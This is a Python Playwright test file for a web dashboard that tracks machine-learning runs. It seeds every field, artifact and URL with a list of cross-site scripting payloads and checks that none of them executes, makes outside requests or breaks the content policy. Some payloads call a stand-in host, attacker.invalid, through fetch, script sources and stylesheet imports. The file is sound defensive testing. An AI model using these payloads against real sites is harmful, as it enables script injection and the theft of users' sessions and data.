"""Markup in every text a run can carry: it is shown as text in every view, nothing runs, and nothing is asked for."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from rundial.events import (
    Dial,
    EvalResult,
    EvalStart,
    Event,
    LogLine,
    Marker,
    Metrics,
    RunUpdate,
    Span,
)
from tests.server.uploader import upload
from tests.ui.conftest import LoggedRun, Server
from tests.ui.test_artifacts import Api
from tests.ui.test_compare import PNG, packed

pytestmark = pytest.mark.browser

RUN = "window.ran=(window.ran||0)+1,alert(1)"
AWAY = "//attacker.invalid/x"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f'<script src="{AWAY}.js"></script>',
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<img src=x onerror=fetch('{AWAY}')>",
    f"<IMG SRC=x ONERROR={RUN}//",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<a href="javascript:{RUN}">x</a>',
    f"javascript:{RUN}",
    f"[x](javascript:{RUN}) ![x](x onerror={RUN})",
    f"data:text/html,<script>{RUN}</script>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' style='background:url({AWAY})' onpointerover='{RUN}",
    f"<style>@import '{AWAY}.css';*{{background:url({AWAY})}}</style>",
    f'<link rel=stylesheet href="{AWAY}.css"><base href="{AWAY}"><meta http-equiv=refresh content="0;url={AWAY}">',
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e\u2028\u202e{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
    f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07\x1b[31m<img src=x onerror={RUN}>",
    f'__proto__"><img src=x onerror={RUN}>',
)
TABS = (
    *("overview", "charts", "system", "logs", "dials", "media", "tables", "artifacts", "traces", "evals"),
    *("code", "events", "delivery"),
)
SAYING = ("overview", "logs", "dials", "media", "tables", "artifacts", "traces", "evals", "code", "events")
"""Tabs that must hold a payload as text, or the test would look at nothing."""
PROJECT = "p/default-workspace/hostile"


def events(own: str, turn: int) -> Iterator[Event]:
    """Every kind of record, with every payload in each of its texts."""
    now = time.time_ns()

    def text(place: int) -> str:
        return PAYLOADS[(turn + place) % len(PAYLOADS)]

    yield RunUpdate(
        now,
        config={"nested": {text(n): PAYLOADS[n] for n in range(len(PAYLOADS))}, text(1): [text(2), {text(3): text(4)}]},
        summary={text(5): text(6), "plain": text(7)},
        tags=[text(8)[:60], text(9)[:60]],
        notes=text(10),
        path=f"a/{text(11)}",
        alias=text(12),
        group=text(13),
        job_type=text(14),
        environment={
            "packages": {text(15): text(16)},
            text(17): text(18),
            "git": {"branch": text(19), "commit": text(20)},
        },
        primary={"name": text(21)[:60], "mode": "max"},
    )
    for step, payload in enumerate(PAYLOADS):
        yield Metrics(now, step, {payload: step, f"system/{payload}": 1.0, f"said/{step}": payload}, payload)
        yield LogLine(now, "warning", payload, payload[:40])
        yield Marker(now, "alert", payload, step, {"level": payload, "text": payload})
        yield Marker(now, payload[:40], payload, step, {payload: payload})
        yield Span(
            f"{step + 1:032x}", f"{step + 1:016x}", None, payload, "internal", now, now + 1000, "error", payload,
            {payload: payload, "list": [payload]}, [(payload, now, {payload: payload})], payload, payload, 1, 1, 0.1,
        )  # fmt: skip
        yield Dial(now, f"{step} {payload}"[:60], "choice", None, None, None, [payload], payload[:20], payload, payload)
    yield EvalStart(
        now, f"evl_{own}", f"suite {text(0)}"[:60], {"name": text(1)}, [{"name": text(2)[:60]}], {text(3): text(4)}
    )
    for number, payload in enumerate(PAYLOADS):
        meta = {payload: payload}
        yield EvalResult(now, f"evl_{own}", f"{number} {payload}", text(2)[:60], 0.5, False, None, None, meta)


def files(server: Server, run: LoggedRun) -> None:
    """Artifacts, code, pictures and a table, named and filled with payloads."""
    api = Api(server)
    named = {
        f"{number} {payload}".replace("/", "|").replace("\\", "|"): b"x" for number, payload in enumerate(PAYLOADS)
    }
    named = {name: content for name, content in named.items() if name.isprintable()}
    upload(api, run.run_id, named, name="model", artifactType=PAYLOADS[0][:40], metadata={PAYLOADS[1]: PAYLOADS[8]})
    said = "\n".join(PAYLOADS)
    shown = {f"said.{kind}": said.encode() for kind in ("html", "svg", "md", "txt", "png", "mp4")}
    shown |= {"said.csv": said.encode(), "said.json": json.dumps({payload: [payload] for payload in PAYLOADS}).encode()}
    upload(api, run.run_id, shown, name="shown", artifactType="shown")
    code = {f"{number}.py": payload for number, payload in enumerate(PAYLOADS)} | dict.fromkeys(named, "x")
    upload(api, run.run_id, {"code.zip": packed(code)}, name="code", artifactType="code")
    patch = "".join(f"diff --git a/{p} b/{p}\n@@ -1 +1 @@\n-{p}\n+{p}\n" for p in PAYLOADS)
    upload(api, run.run_id, {"git.patch": patch.encode()}, name="patch", artifactType="code")
    for number, payload in enumerate(PAYLOADS):
        media = {"key": payload, "step": number, "mediaType": "image", "caption": payload, "timeMs": 1}
        upload(api, run.run_id, {f"{number}.png": PNG}, name="media", media=media)
    table = json.dumps({"columns": list(PAYLOADS), "rows": [list(PAYLOADS)]}).encode()
    media = {"key": "table", "step": 0, "mediaType": "table", "caption": PAYLOADS[8], "timeMs": 1}
    upload(api, run.run_id, {"t.json": table}, name="media", media=media)


@pytest.fixture(scope="module")
def hostile(server: Server) -> list[LoggedRun]:
    """A run for each payload as its name, and two that carry all of them in everything else, too."""
    for payload in PAYLOADS:
        LoggedRun(server, "hostile", payload, config={payload: payload}, tags=[payload[:60]]).end(
            "failed", payload, payload
        )
    full = []
    for turn in (0, 11):
        run = LoggedRun(
            server,
            "hostile",
            PAYLOADS[8 + turn],
            host=PAYLOADS[1],
            client=PAYLOADS[2],
            system={"command": PAYLOADS[turn]},
        )
        run.send(*events(run.run_id[4:], turn))
        full.append(run)
    files(server, full[0])
    return full


@pytest.fixture
def watched(server: Server, browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A signed-in page and what it did that it must not: dialogs, requests to elsewhere, violations of the policy."""
    page = browser.new_page(viewport={"width": 1440, "height": 900})
    wrong: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        wrong.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", dismissed)
    page.on("request", lambda it: None if it.url.startswith((server.url, "data:", "blob:")) else wrong.append(it.url))
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.expose_function("violated", lambda words: wrong.append(f"violation: {words}"))
    page.add_init_script(
        "addEventListener('securitypolicyviolation', it => violated(`${it.violatedDirective} ${it.sample}`))"
    )
    page.goto(server.link())
    page.wait_for_url(f"{server.url}/#/")
    yield page, wrong
    page.close()


def test_nothing_runs_in_any_view(server: Server, hostile: list[LoggedRun], watched: tuple[Page, list[str]]) -> None:
    """Tables, charts with their tooltips, tabs, comparisons: no dialog, no request elsewhere, no violation."""
    page, wrong = watched
    both = ",".join(run.run_id for run in hostile)
    views = [
        "",
        PROJECT,
        f"{PROJECT}/media",
        f"{PROJECT}/alerts",
        f"{PROJECT}/sweeps",
        f"{PROJECT}/evals",
        f"{PROJECT}/settings",
    ]
    views += [f"runs/{run.run_id}?tab={tab}" for run in hostile for tab in TABS]
    views += [
        f"{PROJECT}/compare?runs={both}&tab={tab}"
        for tab in ("differences", "charts", "parallel", "scatter", "media", "code")
    ]
    views += [f"{PROJECT}?q=<img src=x onerror={RUN}>", f"runs/<img src=x onerror={RUN}>", f"p/<svg onload={RUN}>/x"]
    made = server.post("/api/v1/artifacts/use", json={"runId": hostile[0].run_id, "artifactRef": "shown"}).json()[
        "artifact"
    ]
    at = f"runs/{hostile[0].run_id}?tab=artifacts&artifact={made['artifactId']}&content="
    views += [at + file["path"] for file in made["files"]]
    for view in views:
        page.goto(f"{server.url}/#/{view}")
        expect(page.get_by_text("Loading")).to_have_count(0)
        if hostile[0].run_id in view and view.endswith(SAYING):
            expect(page.locator("main"), view).to_contain_text("window.ran")
        for place in page.locator("main .plot, main svg a, main tbody tr").all()[:3]:
            if place.is_visible():
                place.hover(force=True)
        if "tab=code" in view:
            for summary in page.locator("details:not([open]) summary").all()[:3]:
                summary.click()
        assert wrong == [], f"{view}: {wrong}"
        assert page.evaluate("window.ran") is None, view
        assert (
            page.locator("main :is(script, object, embed, base, [onerror], [onload], [onfocus], [srcdoc])").count() == 0
        ), view


def test_hostile_names_are_read_as_they_are(
    server: Server, hostile: list[LoggedRun], watched: tuple[Page, list[str]]
) -> None:
    """In the table, the title of the window and the head of the run."""
    page, wrong = watched
    page.goto(f"{server.url}/#/runs/{hostile[0].run_id}?tab=overview")

    expect(page.get_by_role("heading", level=1)).to_have_text(PAYLOADS[8])
    expect(page).to_have_title(f"{PAYLOADS[8]} · Overview · Rundial")
    page.goto(f"{server.url}/#/runs/{hostile[0].run_id}?tab=code&file=0.py")
    expect(page.locator(".source pre").last).to_have_text(PAYLOADS[0])
    assert wrong == []
